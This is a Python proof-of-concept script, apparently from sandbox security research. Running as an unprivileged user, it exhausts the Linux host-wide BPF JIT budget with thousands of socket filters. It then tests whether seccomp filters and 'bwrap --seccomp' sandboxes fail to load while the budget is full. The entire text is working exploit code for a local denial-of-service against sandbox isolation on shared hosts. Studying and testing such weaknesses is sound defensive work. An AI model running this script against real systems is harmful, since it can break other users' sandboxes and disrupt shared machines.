"""a06b (host, as uid 65534 like a sandbox, seconds-long window): fill the host-wide BPF JIT budget with socket
filters until an attach is refused, then, while it is full, have another unprivileged process (no_new_privs) load a
seccomp filter (what bwrap --seccomp does for every sandbox) and run bwrap --seccomp itself; then release."""
import os, socket, struct, ctypes, time, resource, subprocess, tempfile, errno
LEN = 1024
prog = b"".join(struct.pack("HBBI", 0x20, 0, 0, i % 64) for i in range(LEN - 1)) + struct.pack("HBBI", 0x06, 0, 0, 0)
buf = ctypes.create_string_buffer(prog)
fprog = struct.pack("HL", LEN, ctypes.addressof(buf))
libc = ctypes.CDLL(None, use_errno=True)
allow = struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000)  # ret SECCOMP_RET_ALLOW
abuf = ctypes.create_string_buffer(allow)
seccomp_fprog = struct.pack("HL", 1, ctypes.addressof(abuf))
sf = tempfile.NamedTemporaryFile(delete=False); sf.write(allow); sf.close(); os.chmod(sf.name, 0o644)
def try_seccomp():
    pid = os.fork()
    if pid == 0:
        libc.prctl(38, 1, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS
        arg = ctypes.create_string_buffer(seccomp_fprog)
        rc = libc.prctl(22, 2, arg, 0, 0)  # PR_SET_SECCOMP, SECCOMP_MODE_FILTER
        e = ctypes.get_errno()
        os._exit(0 if rc == 0 else e)
    _, st = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(st)
def try_bwrap():
    fd = os.open(sf.name, os.O_RDONLY)
    r = subprocess.run(["bwrap", "--ro-bind", "/", "/", "--unshare-user", "--seccomp", str(fd), "true"], pass_fds=[fd],
                       capture_output=True, text=True, timeout=20)
    os.close(fd)
    return r.returncode, r.stderr.strip()[:200]
resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
os.setgid(65534); os.setuid(65534)
print("before: seccomp load ->", try_seccomp() or "ok", "; bwrap --seccomp ->", try_bwrap(), flush=True)
def make(n):
    p = b"".join(struct.pack("HBBI", 0x20, 0, 0, i % 64) for i in range(n - 1)) + struct.pack("HBBI", 0x06, 0, 0, 0)
    b = ctypes.create_string_buffer(p); keepbufs.append(b)
    return struct.pack("HL", n, ctypes.addressof(b))
keepbufs = []
socks = []; t0 = time.time()
for n in (1024, 64, 4, 1):
    fp = make(n); got = 0
    while len(socks) < 19000:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.setsockopt(socket.SOL_SOCKET, 26, fp)
        except OSError as e:
            print(f"{n}-insn filters: {got} attached, then refused: {e} (total {len(socks)}, after {time.time() - t0:.1f} s)", flush=True); s.close(); break
        socks.append(s); got += 1
t1 = time.time()
e = try_seccomp()
b = try_bwrap()
print(f"while full: seccomp load -> {errno.errorcode.get(e, e) if e else 'ok'}; bwrap --seccomp -> {b}", flush=True)
for s in socks: s.close()
print(f"released after {time.time() - t1:.2f} s full", flush=True)
time.sleep(0.5)
print("after: seccomp load ->", try_seccomp() or "ok", "; bwrap --seccomp ->", try_bwrap())
